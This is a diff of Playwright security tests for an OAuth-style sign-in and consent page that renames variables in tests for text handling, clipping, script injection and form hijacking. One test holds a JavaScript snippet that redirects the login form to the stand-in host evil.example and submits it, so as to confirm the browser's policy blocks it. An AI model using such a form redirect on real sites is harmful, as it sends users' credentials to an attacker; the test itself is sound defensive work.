@@ -52,7 +52,7 @@ def test_names_states_and_e_mails_are_text_and_nothing_else(
         seen["consent"] = skeleton(page)
         allow(page)
         expect(page.get_by_role("heading")).to_have_text("The app")
-        assert site.app.told["state"] == state
+        assert site.app.received["state"] == state
         return seen
 
     browser_errors.expect("400 (Bad Request)")
@@ -71,7 +71,7 @@ def test_a_scope_is_text_whatever_it_is_called(site: Site, page: Page, email: st
     assert page.locator("img").count() == 0
     allow(page)
     expect(page.get_by_role("heading")).to_have_text("The app")
-    assert "code" in site.app.told
+    assert "code" in site.app.received
 
 
 @pytest.mark.parametrize("mark", ["\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u200b", "\ufeff", "\x1b", "\n"])
@@ -89,7 +89,7 @@ def test_a_state_that_turns_text_round_comes_back_and_turns_none(site: Site, pag
     assert "\u202e" not in page.content()
     allow(page)
     expect(page.get_by_role("heading")).to_have_text("The app")
-    assert site.app.told["state"] == state
+    assert site.app.received["state"] == state
     assert page.context.cookies(site.app.url) == page.context.cookies(site.url)  # one host, whatever the port
 
 
@@ -113,13 +113,13 @@ def test_what_a_name_paints_beyond_its_lines_is_cut_off(site: Site, page: Page) 
     # As marks do that are heaped on a letter, where a font has room for them: here a shadow stands for these.
     heaped = "() => document.querySelectorAll('bdi').forEach(it => it.style.boxShadow = '0 0 0 200px red')"
     page.goto(site.authorize_url())
-    for title, told in (
+    for title, selector in (
         ("Sign in", "label, input:not([type='hidden']), button"),
         ("Allow access", "fieldset, .choice, .brand"),
     ):
         expect(page).to_have_title(f"{title} · MachPay")
         page.evaluate("document.activeElement.blur()")
-        elements = page.locator(told).all()
+        elements = page.locator(selector).all()
         before = [each.screenshot() for each in elements]
         page.evaluate(heaped)
         assert [each.screenshot() for each in elements] == before
@@ -155,7 +155,7 @@ def test_a_script_that_got_into_a_page_would_not_run(site: Site, page: Page, bro
     page.goto(site.authorize_url())
     for title in ("Sign in", "Allow access"):
         expect(page).to_have_title(f"{title} · MachPay")
-        with page.expect_console_message(lambda said: "the image" in said.text):
+        with page.expect_console_message(lambda message: "the image" in message.text):
             assert page.evaluate(injected) is False
         assert page.evaluate("window.ran") is None
         site.sign_in_as_reader(page)
@@ -164,14 +164,14 @@ def test_a_script_that_got_into_a_page_would_not_run(site: Site, page: Page, bro
 
 def test_a_form_that_got_into_a_page_would_not_be_sent(site: Site, page: Page, browser_errors: BrowserErrors) -> None:
     page.goto(site.authorize_url())
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
     browser_errors.expect("Sending form data to 'https://evil.example/'")
-    with page.expect_console_message(lambda said: "form-action" in said.text):
+    with page.expect_console_message(lambda message: "form-action" in message.text):
         page.evaluate(
             """() => {
                 document.forms[0].action = "https://evil.example/";
                 document.forms[0].submit();
             }"""
         )
-    assert asked == []
+    assert requested == []
